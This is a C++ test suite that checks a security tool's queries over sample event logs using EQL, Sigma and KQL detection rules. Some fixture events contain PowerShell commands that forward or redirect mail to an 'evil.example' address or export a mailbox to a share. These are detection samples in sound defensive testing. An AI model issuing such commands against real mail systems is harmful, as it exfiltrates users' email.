// `attest query` end to end: the built binary over NDJSON written to a temp dir and over the
// shared real samples (skipped when ../shared/data is absent).
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

namespace {

namespace fs = std::filesystem;

struct Result {
    int code = -1;
    std::string out;
    std::string err;
};

class QueryE2e : public ::testing::Test {
protected:
    void SetUp() override {
        m_dir = fs::temp_directory_path() / ("attest-eql-e2e-" + std::to_string(::getpid()));
        fs::create_directories(m_dir);
    }
    void TearDown() override { fs::remove_all(m_dir); }

    std::string write(const std::string& name, const std::string& content) {
        std::string p = (m_dir / name).string();
        std::ofstream(p) << content;
        return p;
    }

    static std::string quote(const std::string& s) {
        std::string q = "'";
        for (char c : s) {
            if (c == '\'') q += "'\\''";
            else q += c;
        }
        return q + "'";
    }

    Result run(const std::string& args, const std::string& command = "query") {
        std::string err_file = (m_dir / "stderr.txt").string();
        std::string cmd = std::string(ATTEST_BINARY) + " " + command + " " + args + " 2>" + err_file;
        Result r;
        FILE* p = ::popen(cmd.c_str(), "r");
        if (p == nullptr) return r;
        char buf[4096];
        std::size_t n;
        while ((n = std::fread(buf, 1, sizeof buf, p)) > 0) r.out.append(buf, n);
        int status = ::pclose(p);
        r.code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
        std::ifstream e(err_file);
        r.err.assign(std::istreambuf_iterator<char>(e), {});
        return r;
    }

    fs::path m_dir;
};

const char* kEvents =
    R"({"@timestamp":"2026-01-01T00:00:03Z","event":{"category":"process"},"host":{"name":"h1"},"process":{"name":"cmd.exe","entity_id":"p1"},"id":3})" "\n"
    R"({"@timestamp":"2026-01-01T00:00:01Z","event":{"category":"process"},"host":{"name":"h1"},"process":{"name":"powershell.exe","entity_id":"p1"},"id":1})" "\n"
    R"({"@timestamp":"2026-01-01T00:00:02Z","event":{"category":"file"},"host":{"name":"h1"},"process":{"entity_id":"p1"},"file":{"extension":"pst"},"id":2})" "\n";

TEST_F(QueryE2e, EventQueryPrintsHitsInTimestampOrder) {
    std::string f = write("events.ndjson", kEvents);
    Result r = run("--eql " + quote("process where true") + " " + f);
    EXPECT_EQ(r.code, 0) << r.err;
    // Input order is 3, 1, 2: the hits come sorted by @timestamp.
    auto first = r.out.find("\"id\":1");
    auto second = r.out.find("\"id\":3");
    ASSERT_NE(first, std::string::npos) << r.out;
    ASSERT_NE(second, std::string::npos) << r.out;
    EXPECT_LT(first, second);
    EXPECT_EQ(r.out.rfind("{\"events\":[{\"@timestamp\":\"2026-01-01T00:00:01Z\"", 0), 0u) << r.out;
    EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 2);
}

TEST_F(QueryE2e, SequencePrintsJoinKeysAndMissingPlaceholders) {
    std::string f = write("events.ndjson", kEvents);
    Result r = run("--eql " + quote("sequence by host.name with maxspan=1m [process where true] [file where true] ![network where true]") + " " + f);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out.rfind("{\"join_keys\":[\"h1\"],\"events\":[{", 0), 0u) << r.out;
    EXPECT_NE(r.out.find(",{\"missing\":true}]}"), std::string::npos) << r.out;
}

// An event whose timestamp is absent or not a date is still evaluated (after the timed ones,
// in input order) and the run says so on stderr, naming the first such event and its value.
TEST_F(QueryE2e, UntimedEventsAreEvaluatedLastAndReported) {
    std::string f = write("untimed.ndjson",
                          R"({"@timestamp":"2026-01-01T00:00:02Z","event":{"category":"process"},"id":2})" "\n"
                          R"({"@timestamp":"yesterday","event":{"category":"process"},"id":9})" "\n"
                          R"({"@timestamp":116444736000000000,"event":{"category":"process"},"id":8})" "\n"
                          R"({"event":{"category":"process"},"id":7})" "\n"
                          R"({"@timestamp":"2026-01-01T00:00:01Z","event":{"category":"process"},"id":1})" "\n");
    Result r = run("--eql " + quote("process where true") + " " + f);
    EXPECT_EQ(r.code, 0) << r.err;
    std::vector<std::size_t> at;
    for (const char* id : {"\"id\":1}", "\"id\":2}", "\"id\":9}", "\"id\":8}", "\"id\":7}"}) {
        at.push_back(r.out.find(id));
        ASSERT_NE(at.back(), std::string::npos) << id << " missing from " << r.out;
    }
    EXPECT_TRUE(std::is_sorted(at.begin(), at.end())) << r.out;
    EXPECT_NE(r.err.find("2 event(s) have a @timestamp that is not a date"), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("untimed.ndjson: event 2 has @timestamp \"yesterday\""), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("1 event(s) have no @timestamp; first: " + f + ": event 4"), std::string::npos) << r.err;

    Result timed = run("--eql " + quote("process where true") + " " + write("timed.ndjson", kEvents));
    EXPECT_EQ(timed.err.find("warning"), std::string::npos) << timed.err;
}

TEST_F(QueryE2e, NoHitsExitsOneAndExplains) {
    std::string f = write("events.ndjson", kEvents);
    Result r = run("--explain --eql " + quote("process where process.name == \"cmd.exe\" and host.name == \"h2\"") + " " + f);
    EXPECT_EQ(r.code, 1);
    EXPECT_TRUE(r.out.empty());
    EXPECT_NE(r.err.find("2 events of the category"), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("near miss (failed: host.name == \"h2\")"), std::string::npos) << r.err;
}

TEST_F(QueryE2e, QueryErrorsExitTwoWithPositionAndCaret) {
    std::string f = write("events.ndjson", kEvents);
    Result r = run("--eql " + quote("process where process.name = \"x\"") + " " + f);
    EXPECT_EQ(r.code, 2);
    EXPECT_NE(r.err.find("--eql:1:28: use '==' to compare, not '='\nprocess where process.name = \"x\"\n                           ^"),
              std::string::npos) << r.err;
    Result missing = run("--eql " + quote("any where true") + " " + (m_dir / "nope.ndjson").string());
    EXPECT_EQ(missing.code, 2);
    Result usage = run(f);
    EXPECT_EQ(usage.code, 2);
}

TEST_F(QueryE2e, SeedRuleFromTomlOverEndpointEvents) {
    std::string f = write("endpoint.ndjson",
                          R"({"@timestamp":"2026-01-01T00:00:01Z","event":{"category":["file"],"action":"creation"},"host":{"name":"WS1"},"file":{"extension":"pst","path":"C:\\t\\x.pst"},"process":{"name":"powershell.exe","entity_id":"{g}"}})" "\n"
                          R"({"@timestamp":"2026-01-01T00:00:02Z","event":{"category":["file"],"action":"creation"},"host":{"name":"WS1"},"file":{"extension":"pst","path":"C:\\t\\x.pst"},"process":{"name":"OUTLOOK.EXE","entity_id":"{h}"}})" "\n");
    Result r = run("--rule " + std::string(ATTEST_SOURCE_DIR) + "/tests/data/eql/seed_t1114.toml " + f);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 1) << r.out;
    EXPECT_EQ(r.out.rfind("{\"join_keys\":[\"WS1\",\"{g}\"]", 0), 0u) << r.out;
    EXPECT_NE(r.err.find("profile endpoint"), std::string::npos) << r.err;
}

TEST_F(QueryE2e, RealSysmonXmlSample) {
    std::string xml = std::string(ATTEST_SOURCE_DIR) +
                      "/../shared/data/xml/Execution_exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.libevtx.xml";
    if (!fs::exists(xml)) GTEST_SKIP() << "../shared/data absent";
    Result r = run("--eql " + quote("process where process.name : \"MSHTA.exe\"") + " " + xml);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_NE(r.out.find("\"name\":\"mshta.exe\""), std::string::npos) << r.out.substr(0, 500);
    Result none = run("--eql " + quote("process where process.name == \"MSHTA.exe\"") + " " + xml);
    EXPECT_EQ(none.code, 1);
}

// Sigma: a rule file, exit codes 0 / 1 / 2, load errors with their position, correlations.
TEST_F(QueryE2e, SigmaRuleFileAndCorrelation) {
    std::string events = write(
        "ps.ndjson",
        R"({"@timestamp":"2026-01-01T00:00:01Z","event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":{"ScriptBlockText":"New-InboxRule -Name a -ForwardTo x@evil.example"}},"user":{"name":"u1"}})"
        "\n"
        R"({"@timestamp":"2026-01-01T00:00:02Z","event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":{"ScriptBlockText":"Set-InboxRule -Identity a -RedirectTo y@evil.example"}},"user":{"name":"u1"}})"
        "\n");
    std::string rule = write("fwd.yml",
                             "title: Forwarding rule\nlevel: high\nlogsource:\n    product: "
                             "windows\n    category: ps_script\n"
                             "detection:\n    cmdlet:\n        ScriptBlockText|contains: "
                             "['New-InboxRule', 'Set-InboxRule']\n"
                             "    params:\n        ScriptBlockText|contains: ['ForwardTo', "
                             "'RedirectTo']\n    condition: cmdlet and params\n");
    Result r = run("--rule " + rule + " " + events);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 2) << r.out;
    EXPECT_EQ(r.out.rfind("{\"events\":[{", 0), 0u) << r.out;

    std::string none =
        write("none.yml",
              "title: None\nlogsource:\n    product: windows\n    category: ps_script\n"
              "detection:\n    sel:\n        ScriptBlockText|contains: 'Get-Mailbox'\n    "
              "condition: sel\n");
    Result n = run("--explain --rule " + none + " " + events);
    EXPECT_EQ(n.code, 1);
    EXPECT_NE(n.err.find("sel: ScriptBlockText|contains: Get-Mailbox"), std::string::npos) << n.err;

    std::string bad = write("bad.yml",
                            "title: Bad\ndetection:\n    sel:\n        X|cidr|startswith: "
                            "'10.0.0.0/8'\n    condition: sel\n");
    Result b = run("--rule " + bad + " " + events);
    EXPECT_EQ(b.code, 2);
    EXPECT_NE(b.err.find("bad.yml:4:9: detection.sel.X|cidr|startswith: contradictory modifiers"),
              std::string::npos)
        << b.err;

    std::string corr = write("corr.yml",
                             "title: Rule change\nname: change\nlogsource:\n    product: windows\n "
                             "   category: ps_script\n"
                             "detection:\n    sel:\n        ScriptBlockText|contains: "
                             "'InboxRule'\n    condition: sel\n---\n"
                             "title: Two rule changes\ncorrelation:\n    type: event_count\n    "
                             "rules: [change]\n    group-by: [User]\n"
                             "    timespan: 1m\n    condition:\n        gte: 2\n");
    Result c = run("--rule " + corr + " " + events);
    EXPECT_EQ(c.code, 0) << c.err;
    EXPECT_EQ(std::count(c.out.begin(), c.out.end(), '\n'), 1) << c.out;
    EXPECT_EQ(c.out.rfind("{\"join_keys\":[\"u1\"],\"events\":[{", 0), 0u) << c.out;
}

TEST_F(QueryE2e, KueryRuleFromToml) {
    std::string rule = std::string(ATTEST_SOURCE_DIR) + "/../shared/data/rules/elastic/collection_mailbox_export_winlog.toml";
    if (!fs::exists(rule)) GTEST_SKIP() << "../shared/data absent";
    std::string f = write("ps.ndjson",
                          R"({"@timestamp":"2026-01-01T00:00:01Z","event":{"category":["process"],"code":"4104"},"host":{"os":{"type":"windows"}},"powershell":{"file":{"script_block_text":"New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\c\\bob.pst"}},"id":1})" "\n"
                          R"({"@timestamp":"2026-01-01T00:00:02Z","event":{"category":["process"],"code":"4104"},"host":{"os":{"type":"windows"}},"powershell":{"file":{"script_block_text":"Get-Date"}},"id":2})" "\n");
    Result r = run("--rule " + quote(rule) + " " + f);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 1) << r.out;
    EXPECT_NE(r.out.find("\"id\":1"), std::string::npos) << r.out;
    Result explain = run("--explain --kql " + quote("powershell.file.script_block_text : zzz and event.code : 4104") + " " + f);
    EXPECT_EQ(explain.code, 1);
    EXPECT_NE(explain.err.find("event.code : 4104"), std::string::npos) << explain.err;
}

TEST_F(QueryE2e, NotLocallyEvaluableRulesSayWhy) {
    std::string rule = write("nt.toml", "[rule]\nlanguage = \"kuery\"\ntype = \"new_terms\"\nquery = \"a : b\"\n");
    std::string f = write("e.ndjson", std::string(kEvents));
    Result r = run("--rule " + rule + " " + f);
    EXPECT_EQ(r.code, 2);
    EXPECT_NE(r.err.find("not locally evaluable: new_terms rule"), std::string::npos) << r.err;
}

TEST_F(QueryE2e, MappingGivesVersionOrder) {
    std::string mapping = write("m.json", R"({"logs":{"mappings":{"properties":{"agent":{"properties":{"version":{"type":"version"}}}}}}})");
    std::string f = write("v.ndjson",
                          R"({"@timestamp":"2026-01-01T00:00:01Z","event":{"category":"process"},"agent":{"version":"1.9.0"},"id":1})" "\n"
                          R"({"@timestamp":"2026-01-01T00:00:02Z","event":{"category":"process"},"agent":{"version":"1.10.0"},"id":2})" "\n");
    Result typed = run("--mapping " + mapping + " --eql " + quote("process where agent.version > \"1.9.5\"") + " " + f);
    EXPECT_EQ(typed.code, 0) << typed.err;
    EXPECT_EQ(std::count(typed.out.begin(), typed.out.end(), '\n'), 1) << typed.out;
    EXPECT_NE(typed.out.find("\"id\":2"), std::string::npos) << typed.out;
    Result bad = run("--mapping " + write("bad.json", "{\n  nope\n}") + " --eql " + quote("any where true") + " " + f);
    EXPECT_EQ(bad.code, 2);
    EXPECT_NE(bad.err.find("bad.json:2:"), std::string::npos) << bad.err;
}

TEST_F(QueryE2e, RulesLintSummarisesARepository) {
    std::string dir = (m_dir / "rules").string();
    fs::create_directories(dir);
    std::ofstream(dir + "/ok.eql") << "process where true";
    std::ofstream(dir + "/kql.toml") << "[rule]\nlanguage = \"kuery\"\nquery = \"a : b\"\n";
    std::ofstream(dir + "/ml.toml") << "[rule]\ntype = \"machine_learning\"\n";
    std::ofstream(dir + "/bad.toml") << "[rule]\nlanguage = \"kuery\"\nquery = \"a : (b\"\n";
    Result lint = run(dir, "rules lint");
    EXPECT_EQ(lint.code, 1);
    EXPECT_NE(lint.out.find("4 rule file(s): 2 loaded and evaluable, 1 not locally evaluable, 1 error(s)"), std::string::npos) << lint.out;
    EXPECT_NE(lint.out.find("not locally evaluable: 1 machine_learning rule"), std::string::npos) << lint.out;
    EXPECT_NE(lint.out.find("bad.toml:3:"), std::string::npos) << lint.out;
    Result validate = run(dir, "validate");
    EXPECT_EQ(validate.code, 1);
    EXPECT_NE(validate.out.find("bad.toml:3:"), std::string::npos) << validate.out;
    fs::remove(dir + "/bad.toml");
    EXPECT_EQ(run(dir, "rules lint").code, 0);
    EXPECT_EQ(run(dir, "validate").code, 0);
}

}  // namespace
